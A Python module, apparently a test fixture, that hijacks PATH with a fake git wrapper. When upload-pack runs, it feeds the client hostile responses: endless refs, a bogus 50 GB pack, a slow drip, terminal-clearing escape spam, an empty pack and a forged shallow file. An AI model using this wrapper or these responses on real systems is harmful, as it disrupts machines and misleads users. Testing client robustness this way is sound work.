"""A git in other hands: stands on a host before the real one on the PATH, and alters what home is sent.

    python evil_git.py ATTACK TARGET GIT upload-pack …

Everything else is done by the real git.
"""

from __future__ import annotations

import hashlib
import itertools
import os
import shutil
import stat
import struct
import sys
import time
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

Attack = Callable[[Path, str], None]
"""On the repository there, with the target. The real git follows if it returns."""


def greeting(mirror: Path, target: str) -> None:
    """References without end."""
    for number in itertools.count():
        _say(_packet(b"%s refs/fleet/incoming/x%d\n" % (b"1" * 40, number)))


def pack(mirror: Path, target: str) -> None:
    """A pack of 50 GB: files of noise, one after another."""
    _begin_pack(target)
    while True:
        _say(_noise())


def slow(mirror: Path, target: str) -> None:
    """The same, much of it at first, and then a byte now and again."""
    _begin_pack(target)
    for _ in range(5):
        _say(_noise())
    for byte in _noise():
        time.sleep(0.02)
        _say(bytes([byte]))


def _begin_pack(target: str) -> None:
    _honest_greeting(target)
    _say(_packet(b"NAK\n") + b"PACK" + struct.pack(">II", 2, 50_000))


@cache
def _noise() -> bytes:
    """A file, as it stands in a pack."""
    content = os.urandom(1 << 20)
    size, head = len(content) >> 4, [0x80 | 3 << 4 | len(content) & 15]
    while size:
        head.append(size & 0x7F | (0x80 if size >> 7 else 0))
        size >>= 7
    return bytes(head) + zlib.compress(content, 0)


def words(mirror: Path, target: str) -> None:
    """Progress without end, which git shows to the person."""
    _honest_greeting(target, b"side-band-64k")
    _say(_packet(b"NAK\n"))
    while True:
        _say(_packet(b"\2" + b"Counting \x1b[2J" * 5_000 + b"\n"))


def less(mirror: Path, target: str) -> None:
    """A pack without anything in it."""
    _honest_greeting(target)
    empty = b"PACK" + struct.pack(">II", 2, 0)
    _say(_packet(b"NAK\n") + empty + hashlib.sha1(empty, usedforsecurity=False).digest())
    sys.exit(0)


def shallow(mirror: Path, target: str) -> None:
    """As if history began there."""
    (mirror / "shallow").write_text(f"{target}\n")


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack for attack in (greeting, pack, words, slow, less, shallow)
}


def _honest_greeting(target: str, capabilities: bytes = b"") -> None:
    """One reference, and what home answers to it."""
    said = b"%s refs/fleet/incoming/t1\0%s allow-reachable-sha1-in-want allow-tip-sha1-in-want\n"
    _say(_packet(said % (target.encode(), capabilities)) + b"0000")
    heard = b""
    while b"done\n" not in heard:
        heard += os.read(0, 1 << 16)


def _packet(said: bytes) -> bytes:
    return b"%04x" % (len(said) + 4) + said


def _say(data: bytes) -> None:
    """Until home hangs up."""
    rest = memoryview(data)
    try:
        while rest:
            rest = rest[os.write(1, rest) :]
    except OSError:
        sys.exit(0)


def install(directory: Path, attack: str, target: str) -> str:
    """Puts it there; returns the PATH of a host that has it."""
    directory.mkdir(exist_ok=True)
    real = shutil.which("git")
    assert real is not None
    wrapper = directory / "git"
    wrapper.write_text(
        f'#!/bin/sh\ncase "$*" in *upload-pack*) exec {sys.executable} {__file__} {attack} {target} {real} "$@";; '
        f'esac\nexec {real} "$@"\n'
    )
    wrapper.chmod(wrapper.stat().st_mode | stat.S_IXUSR)
    return f"{directory}:{os.environ['PATH']}"


def main() -> None:
    attack, target, real, *asked = sys.argv[1:]
    ATTACKS[attack](Path(asked[-1]), target)
    os.execv(real, ["git", *asked])


if __name__ == "__main__":
    main()
